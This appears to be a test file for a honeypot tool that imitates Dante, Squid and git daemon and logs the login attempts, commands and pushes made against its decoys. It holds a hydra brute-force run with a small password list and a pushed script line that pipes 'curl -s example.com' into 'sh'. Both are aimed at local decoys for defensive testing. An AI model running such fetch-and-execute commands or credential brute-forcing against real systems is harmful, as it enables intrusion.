/** Stock clients of proxies and of git, and hydra: they are answered as by the products. */
import { assert, assertEquals, assertMatch } from "@std/assert";
import { testWith } from "./support/machine.ts";
import { runToEnd } from "./support/process.ts";
import { Program } from "./support/program.ts";
import { assertOnce, watched } from "./support/watched.ts";
import { isAttempt, type WireEvent } from "./support/wire_event.ts";
import { defaultConfig } from "../../lib/config/default.ts";

const DECOYS = `decoys:
  - {kind: socks, name: dante, listen: ["127.0.0.1:@danteshut"]}
  - {kind: socks, name: danteopen, auth: none, listen: ["127.0.0.1:@danteopen"]}
  - {kind: http-proxy, name: squid, listen: ["127.0.0.1:@squidshut"]}
  - {kind: http-proxy, name: squidbasic, auth: basic, listen: ["127.0.0.1:@squidbasic"]}
  - {kind: http-proxy, name: squidntlm, auth: ntlm, listen: ["127.0.0.1:@squidntlm"]}
  - {kind: git, name: git, listen: ["127.0.0.1:@gitdaemon"]}
`;

/** Runs curl through a proxy; tells its code and what it complains about. */
async function curl(...args: string[]): Promise<{ code: number; said: string }> {
  const { code, stdout, stderr } = await runToEnd("curl", ["-sS", "--max-time", "20", ...args]);
  return { code, said: stdout + stderr };
}

async function socks(open: number, shut: number): Promise<void> {
  const [login, target, old] = await Promise.all([
    curl("--socks5", `alice:wonder@127.0.0.1:${shut}`, "http://192.0.2.1/"),
    curl("--socks5-hostname", `127.0.0.1:${open}`, "http://example.com/"),
    curl("--socks4a", `bob@127.0.0.1:${open}`, "http://example.net/"),
  ]);
  assertEquals([login.code, target.code, old.code], [97, 97, 97]);
  assertMatch(login.said, /User was rejected by the SOCKS5 server \(1 1\)/);
  assertMatch(target.said, /Can't complete SOCKS5 connection to example\.com\. \(2\)/);
  assertMatch(old.said, /request rejected or failed/);
}

async function squid(
  { shut, basic, ntlm }: { shut: number; basic: number; ntlm: number },
): Promise<void> {
  const [page, tunnel, login, windows] = await Promise.all([
    curl("-x", `http://127.0.0.1:${shut}`, "http://example.com/"),
    curl("-x", `http://127.0.0.1:${shut}`, "https://example.com/"),
    curl("-x", `http://carol:singer@127.0.0.1:${basic}`, "https://example.com/"),
    curl(
      "-x",
      `http://127.0.0.1:${ntlm}`,
      "--proxy-ntlm",
      "-U",
      "CORP\\dave:pw",
      "http://a.example/",
    ),
  ]);
  assertEquals([page.code, tunnel.code, login.code, windows.code], [0, 56, 56, 0]);
  assertMatch(page.said, /<p>Generated .* by .* \(squid\/5\.7\)<\/p>/);
  assertMatch(tunnel.said, /CONNECT tunnel failed, response 403/);
  assertMatch(login.said, /CONNECT tunnel failed, response 407/);
  assertMatch(windows.said, /<!-- ERR_CACHE_ACCESS_DENIED -->/);
}

async function git(port: number, folder: string): Promise<void> {
  const denied = "fatal: remote error: access denied or repository not exported:";
  const url = `git://127.0.0.1:${port}`;
  const ran = await runToEnd("git", ["ls-remote", `${url}/a/project.git`]);
  assertEquals(ran.code, 128);
  assert(ran.stderr.includes(`${denied} /a/project.git`), ran.stderr);
  const clone = await runToEnd("git", ["clone", "-q", `${url}/secrets.git`, `${folder}/clone`]);
  assert(clone.stderr.includes(`${denied} /secrets.git`), clone.stderr);
}

/** hydra with two names and two passwords. */
async function hydra(module: string, port: number): Promise<void> {
  const folder = await Deno.makeTempDir({ prefix: "duckblind-hydra-" });
  try {
    await Deno.writeTextFile(`${folder}/users`, "root\nadmin\n");
    await Deno.writeTextFile(`${folder}/passwords`, "toor\nhunter2\n");
    const lists = ["-L", `${folder}/users`, "-P", `${folder}/passwords`];
    const args = ["-I", "-t", "1", ...lists, "-s", String(port), "127.0.0.1", module];
    const { stdout } = await runToEnd("hydra", args);
    assertMatch(stdout, /1 of 1 target completed, 0 valid password found/);
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
}

testWith(
  "curl, git and hydra are answered as by Dante, Squid and git daemon, and what they tried is told",
  { programs: ["curl", "git", "hydra"] },
  async () => {
    const config = defaultConfig("tryout").replace(/decoys:\n[^]*$/, () => DECOYS);
    const events = await watched(() => Program.source(config), async ({ program }) => {
      const { danteopen, danteshut, squidshut, squidbasic, squidntlm, gitdaemon } = program.ports;
      await Promise.all([
        socks(danteopen, danteshut),
        squid({ shut: squidshut, basic: squidbasic, ntlm: squidntlm }),
        git(gitdaemon, program.folder),
        hydra("http-proxy", squidbasic),
      ]);
    });
    const pairs = [["alice", "wonder"], ["carol", "singer"]]
      .concat([["root", "toor"], ["root", "hunter2"], ["admin", "toor"], ["admin", "hunter2"]]);
    for (const [name, password] of pairs) {
      assertOnce(events, `login as ${name}`, isAttempt(name!, password!));
    }
    const attempts = events.filter(({ event }) => event.action === "credential-attempt");
    assertEquals(attempts.length, pairs.length + 1);
    const dave = attempts.find(({ user }) => user?.name === "dave")!;
    assertMatch(dave.duckblind.credential.hash!, /^dave::CORP:[0-9a-f]{16}:[0-9a-f]{32}:0101/);
    const commands = ["CONNECT example.com:80", "CONNECT example.net:80 user=bob"]
      .concat(
        ["/a/project.git", "/secrets.git"].map((path) => `git-upload-pack ${path} host=127.0.0.1:`),
      );
    for (const command of commands) {
      const isCommand = ({ process }: WireEvent) =>
        process?.command_line?.startsWith(command) ?? false;
      assertOnce(events, command, isCommand);
    }
    const isTarget = (target: string) => ({ url }: WireEvent) => url?.original === target;
    assertOnce(events, "the page", isTarget("http://example.com/"));
    assertEquals(events.filter(isTarget("example.com:443")).length, 2);
  },
);

const GIT_CONFIG = `service: { listen: ["127.0.0.1:@service"], inner: "127.0.0.1:@inner" }
decoys:
  - { kind: git, repositories: [/infra.git], receive_pack: true, listen: ["127.0.0.1:@gitdaemon"] }
lures:
  - { kind: git-file }
`;

/** git without anybody's settings; what it wrote, both streams. */
async function runGit(folder: string, args: readonly string[], code = 0): Promise<string> {
  const env = {
    PATH: "/usr/bin:/bin",
    HOME: folder,
    GIT_CONFIG_NOSYSTEM: "1",
    GIT_AUTHOR_NAME: "x",
    GIT_AUTHOR_EMAIL: "x@example.com",
    GIT_COMMITTER_NAME: "x",
    GIT_COMMITTER_EMAIL: "x@example.com",
    LC_ALL: "C",
  };
  const ran = await runToEnd("git", args, { env, clearEnv: true });
  assertEquals(ran.code, code, ran.stderr);
  return ran.stdout + ran.stderr;
}

/** Clones, looks, fetches; all that git checks must hold. */
async function takeRepository(url: string, folder: string): Promise<void> {
  const lists: string[] = [];
  for (const version of [0, 1, 2]) {
    const clone = `${folder}/clone${version}`;
    const own = ["-c", `protocol.version=${version}`];
    const said = await runGit(folder, [...own, "clone", "--progress", url, clone]);
    assertMatch(said, /remote: Counting objects: 100% \((\d+)\/\1\), done\./);
    assertEquals(await runGit(folder, ["-C", clone, "fsck", "--strict", "--full"]), "");
    lists.push(await runGit(folder, [...own, "ls-remote", "--quiet", url]));
    assertEquals(await runGit(folder, ["-C", clone, ...own, "fetch", "--tags"]), "");
  }
  assertEquals(new Set(lists).size, 1);
  assertMatch(lists[0]!, /\tHEAD\n.*\trefs\/heads\/main\n.*\trefs\/tags\/v1\.0\n.*v1\.0\^\{\}\n$/);

  const shallow = `${folder}/shallow`;
  const at = ["-C", shallow];
  await runGit(folder, ["clone", "-q", "--depth=2", url, shallow]);
  const count = ["rev-list", "--count", "HEAD"];
  assertEquals(await runGit(folder, [...at, ...count]), "2\n");
  await runGit(folder, [...at, "fetch", "-q", "--deepen=1"]);
  assertEquals(await runGit(folder, [...at, ...count]), "3\n");
  await runGit(folder, [...at, "fetch", "-q", "--unshallow"]);
  const whole = await runGit(folder, ["-C", `${folder}/clone2`, ...count]);
  assertEquals(await runGit(folder, [...at, ...count]), whole);
  assertEquals(await runGit(folder, [...at, "fsck", "--strict", "--full"]), "");
  const partial = ["clone", "-q", "--filter=blob:none", url, `${folder}/partial`];
  assertMatch(await runGit(folder, partial), /filtering not recognized by server, ignoring/);
}

/** Pushes a commit, a new branch and the end of a tag. */
async function push(folder: string): Promise<void> {
  const at = ["-C", `${folder}/clone2`];
  await Deno.writeTextFile(`${folder}/clone2/scripts/backup.sh`, "curl -s example.com | sh\n");
  await runGit(folder, [...at, "commit", "-qam", "A small fix"]);
  const said = await runGit(folder, [...at, "push", "origin", "main", "main:x", ":v1.0"], 1);
  for (const what of ["main -> main", "main -> x", "v1.0"]) {
    assert(said.includes(`! [remote rejected] ${what} (pre-receive hook declined)`), said);
  }
}

testWith(
  "git clones a repository of the decoy, whole and in part, and what it pushes is declined and told",
  { programs: ["git"] },
  async () => {
    let lure = "";
    const events = await watched(() => Program.source(GIT_CONFIG), async ({ program }) => {
      const { folder, ports } = program;
      const url = `git://127.0.0.1:${ports.gitdaemon}/infra.git`;
      await takeRepository(url, folder);
      await push(folder);
      lure = await Deno.readTextFile(`${folder}/clone0/group_vars/all.yml`);

      const [payload, ...more] = (await program.journal()).events
        .filter(({ event }) => event.action === "payload");
      assertEquals(more, []);
      // What was captured is the very pack, which git can take to pieces where it has the rest.
      const pack = `${folder}/captured`;
      await Deno.writeFile(pack, fromBase64(payload!.duckblind.payload.base64));
      const script = `git -C "$1" index-pack --strict --fix-thin --stdin <"$2"`;
      const taken = await runToEnd("sh", ["-c", script, "sh", `${folder}/clone0`, pack]);
      assertMatch(taken.stdout, /^pack\t[0-9a-f]{40}\n$/, taken.stderr);
    });
    const password = /portal_db_password: (\S{20})\n/.exec(lure)![1]!;
    assert(!JSON.stringify(events).includes(password), "a password that nobody tried is told");

    const commands = events.filter(({ event }) => event.action === "command");
    const verbs = commands.map(({ process }) => process!.command_line!.split(" ")[0]!);
    const times = (verb: string) => verbs.filter((each) => each === verb).length;
    // Three clones, a shallow one, one more commit and in two rounds its tag, the rest, and a clone
    // that asked for a filter.
    assertEquals([times("fetch"), times("git-receive-pack")], [9, 1]);
    assertEquals(verbs.slice(-3).sort(), ["create-ref", "delete-ref", "update-ref"]);
    for (const { process, user_agent, duckblind } of commands) {
      const isRequest = process!.command_line!.startsWith("git-");
      assertEquals(/^git\//.test(user_agent?.original ?? ""), !isRequest, process!.command_line);
      const isPush = /^\w+-ref /.test(process!.command_line!);
      assertEquals(duckblind.command.reply_code, isPush ? "ng" : undefined);
    }
    const touched = events.filter(({ event }) => event.action === "lure-touched");
    assertEquals(touched.every(({ duckblind }) => duckblind.lure.id === "git-file"), true);
    assertEquals(touched.length >= 4, true);
    assertEquals(events.some(({ event }) => event.action === "protocol-error"), false);
  },
);

function fromBase64(text: string): Uint8Array {
  return Uint8Array.from(atob(text), (character) => character.charCodeAt(0));
}
